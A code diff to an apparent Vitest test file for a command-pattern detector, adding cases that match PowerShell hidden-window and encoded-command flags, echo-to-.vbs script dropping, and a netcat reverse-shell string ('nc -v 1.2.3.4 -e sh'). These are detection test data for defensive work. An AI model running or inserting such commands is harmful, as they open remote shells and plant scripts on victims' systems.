@@ -1,4 +1,4 @@
-import { expect, test } from 'vitest';
+import { expect, test, vi } from 'vitest';
 import { hasTerm, readTerm } from './terms.ts';
 
 const isIn = (term: string, text: string) =>
@@ -20,6 +20,10 @@ test.each([
   ['-e~ncodedcommand', 'powershell -e x', 'powershell -ep bypass'],
   ['-w~indowstyle h~idden', 'p -win hid -c', 'p -win min -c'],
   ['-w~indowstyle h~idden', 'p -w min -windowstyle hidden', 'p -windowsize hidden'],
+  ['echo…>….vbs', 'echo a > b.vbs & b', 'b.vbs > echo a'],
+  ['echo…>….vbs', 'echo a \n echo b > c.vbs', 'echo a \n > b.vbs'],
+  ['echo…>….vbs', 'echo a > b \n echo c > d.vbs', 'echo a > b \n echo c \n > d.vbs'],
+  ['nc…-e sh', 'nc -v 1.2.3.4 -e sh', 'nc -v 1.2.3.4 -e shutter'],
 ])('the term %s is in "%s" and not in "%s"', (term, text, other) => {
   expect(isIn(term, text)).toBe(true);
   expect(isIn(term, other)).toBe(false);
@@ -27,4 +31,15 @@ test.each([
 
 test('a term that would be in every command is refused', () => {
   expect(() => readTerm('*', (written) => written)).toThrow(/every command/);
+});
+
+test('a term in steps reads a text once, however often its first step is there without the others', () => {
+  const text = 'echo a > b \n '.repeat(5_000);
+  const term = readTerm('echo…>….vbs…&', (written) => written);
+  const search = vi.spyOn(String.prototype, 'indexOf');
+  expect(hasTerm(`${text}`, term)).toBe(false);
+  expect(hasTerm(`${text}echo a > c.vbs &`, term)).toBe(true);
+  const searches = search.mock.calls.length;
+  search.mockRestore();
+  expect(searches).toBeLessThan(20);
 });
